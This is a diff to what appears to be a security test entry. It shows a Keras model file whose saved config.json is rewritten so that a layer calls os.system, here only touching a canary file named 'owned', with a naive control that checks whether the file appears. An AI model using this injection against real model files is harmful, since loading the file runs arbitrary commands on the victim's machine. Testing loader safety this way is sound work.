@@ -2,7 +2,8 @@
 attacks = "Hand over a model file whose configuration names a function of os as a layer's class."
 promise = "grade"
 observed = "no more"
-control = "none: Keras itself refuses the name in safe mode and in older files; the entry shows that its refusal is a refusal"
+control = "naive"
+naive = "(build_model().save('m.keras'), rebuild('m.keras'), os.path.exists('owned'))[-1]"
 """
 import io
 import json
@@ -18,7 +19,7 @@ def save(self, path, *a, **k):
     with zipfile.ZipFile(path) as archive:
         files = {name: archive.read(name) for name in archive.namelist()}
     config = json.loads(files["config.json"])
-    config["config"]["layers"][-1] = {"module": "os", "class_name": "system", "config": {"command": "touch /box/out/owned"}, "registered_name": None}
+    config["config"]["layers"][-1] = {"module": "os", "class_name": "system", "config": {"command": "touch owned /box/out/owned"}, "registered_name": None}
     with zipfile.ZipFile(path, "w") as archive:
         for name, data in {**files, "config.json": json.dumps(config).encode()}.items():
             archive.writestr(name, data)
